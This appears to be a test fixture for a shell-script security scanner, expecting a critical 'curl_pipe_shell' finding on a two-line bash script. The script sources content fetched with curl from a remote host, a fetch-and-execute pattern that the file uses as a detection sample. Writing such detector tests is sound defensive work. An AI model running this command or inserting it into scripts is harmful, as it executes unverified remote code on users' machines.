# expect: shell.curl_pipe_shell critical
# path: scripts/m.sh
#!/bin/bash
source <(curl -s https://get.example.net/env)
